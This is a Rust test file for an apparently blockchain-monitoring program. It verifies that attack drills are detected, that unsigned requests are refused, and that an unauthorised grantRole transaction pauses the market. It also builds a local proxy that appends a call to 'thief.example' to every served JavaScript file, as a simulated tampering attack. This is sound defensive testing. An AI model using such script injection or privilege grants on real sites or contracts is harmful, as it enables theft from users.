//! The watch through the program itself: a right given without a ticket is
//! answered on the chain, and drills on a fork of it find what they should.

use crate::{
    house::House,
    program::{DEV_KEYS, program},
};
use serde_json::{Value, json};
use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    path::Path,
    time::{Duration, Instant},
};

/// Whether the contract says of itself that it is paused.
fn is_paused(house: &House, contract: &str) -> bool {
    let answer = house.call("eth_call", &json!([{ "to": contract, "data": "0x5c975abb" }, "latest"]));
    answer.as_str().unwrap().ends_with('1')
}

fn drill(directory: &Path, flags: &[&str]) -> (Option<i32>, Value) {
    let output = program().args(["drill", "run"]).args(flags).arg("--json").arg("--data-dir").arg(directory).output();
    let output = output.unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    (output.status.code(), serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{said}")))
}

/// What everybody may read.
const PUBLIC: [&str; 1] = ["/api/v1/ops/statements"];

/// Every endpoint of operations turns those away who are not signed in, but those for everybody.
fn nobody_is_let_in(house: &House) {
    let (_, json) = house.ask("GET", "/api/v1/openapi.json", "", "").unwrap();
    let document: Value = serde_json::from_str(&json).unwrap();
    let mut asked = 0;
    for (path, methods) in document["paths"].as_object().unwrap() {
        if !path.starts_with("/api/v1/ops/") {
            continue;
        }
        for method in methods.as_object().unwrap().keys() {
            let answer = house.ask(&method.to_uppercase(), &path.replace("{id}", "1"), "", "{}").unwrap();
            let expected = if PUBLIC.contains(&path.as_str()) { 200 } else { 401 };
            assert_eq!(answer.0, expected, "{method} {path}: {}", answer.1);
            asked += 1;
        }
    }
    assert!(asked >= 12, "{asked}");
}

#[test]
fn a_stolen_key_is_answered_on_the_chain_and_drills_find_every_attack() {
    let directory = tempfile::tempdir().unwrap();
    let house = House::open(directory.path());
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(directory.path().join("manifest.json")).unwrap()).unwrap();
    let (market, authority) = (&manifest["market"]["address"], manifest["authority"]["address"].as_str().unwrap());
    let market = market.as_str().unwrap();

    // On a fork, while the house is open.
    let (code, scores) = drill(directory.path(), &["all"]);
    assert_eq!(code, Some(0), "{scores:#}");
    let scores = scores.as_array().unwrap();
    assert!(scores.len() >= 8);
    for score in scores {
        assert_eq!((&score["detected"], &score["contained"]), (&json!(true), &json!(true)), "{score:#}");
        let (without, with) = (score["loss_without"].as_f64().unwrap(), score["loss_with"].as_f64().unwrap());
        assert!(without > with || score["name"] == "log-tampering", "{score:#}");
    }
    assert!(!is_paused(&house, market), "a drill must not touch the chain itself");
    nobody_is_let_in(&house);

    // A guard that is switched off is missed.
    for (name, rule) in [("stolen-admin-key", "privilege-change"), ("reentrancy", "one-transaction-drain")] {
        let (code, scores) = drill(directory.path(), &[name, "--without-rule", rule]);
        assert_eq!(code, Some(1));
        assert_eq!(scores[0]["detected"], false);
    }

    // The real thing: grantRole(3, …, 0), sent with the operator's key.
    let data = format!("0x25c471a0{:064x}{:0>64}{:064x}", 3, &DEV_KEYS[3].1[2..], 0);
    house.call("eth_sendTransaction", &json!([{ "from": DEV_KEYS[0].1, "to": authority, "data": data }]));
    let since = Instant::now();
    while !is_paused(&house, market) {
        assert!(since.elapsed() < Duration::from_secs(20), "nobody answered");
        std::thread::sleep(Duration::from_millis(50));
    }

    // What was found is kept, and found once.
    house.kill();
    let house = House::open(directory.path());
    assert!(is_paused(&house, market));
    house.kill();
}

/// Serves what another port does, and puts a line of its own into every script.
fn meddler(behind: u16) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut request = [0; 4096];
            let length = stream.read(&mut request).unwrap_or(0);
            let path = String::from_utf8_lossy(&request[..length]).split(' ').nth(1).unwrap_or("/").to_owned();
            let Ok(mut there) = TcpStream::connect(("127.0.0.1", behind)) else { continue };
            let asked = format!("GET {path} HTTP/1.0\r\nhost: 127.0.0.1\r\n\r\n");
            let mut answer = Vec::new();
            let _ = there.write_all(asked.as_bytes()).and_then(|()| there.read_to_end(&mut answer).map(drop));
            let body = answer.windows(4).position(|four| four == b"\r\n\r\n").map_or(0, |end| end + 4);
            let mut body = answer.split_off(body);
            if path.ends_with(".js") {
                body.extend_from_slice(b";send('https://thief.example')");
            }
            let head = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n", body.len());
            let _ = stream.write_all(&[head.as_bytes(), &body].concat());
        }
    });
    port
}

#[test]
fn a_page_that_somebody_changed_on_the_way_closes_the_market() {
    let directory = tempfile::tempdir().unwrap();
    let house = House::open(directory.path());
    if house.ask("GET", "/theme.js", "", "").unwrap().0 != 200 {
        eprintln!("skipped: this program was built without its console");
        return;
    }
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(directory.path().join("manifest.json")).unwrap()).unwrap();
    let market = manifest["market"]["address"].as_str().unwrap();
    let site = format!("http://127.0.0.1:{}", meddler(house.http));
    let shop = tempfile::tempdir().unwrap();
    let shop =
        House::open_with(shop.path(), &["--public-url", &site, "--look-every", "1s"], std::process::Stdio::null());
    let since = Instant::now();
    while !is_paused(&shop, market) {
        assert!(since.elapsed() < Duration::from_secs(60), "the market is still open");
        std::thread::sleep(Duration::from_millis(300));
    }
    let (_, metrics) = shop.ask("GET", "/metrics", "", "").unwrap();
    assert!(metrics.contains("guildhall_site_reachable 1"), "{metrics}");
    assert!(metrics.lines().any(|line| line.starts_with("guildhall_site_drift") && !line.ends_with(" 0")), "{metrics}");
}
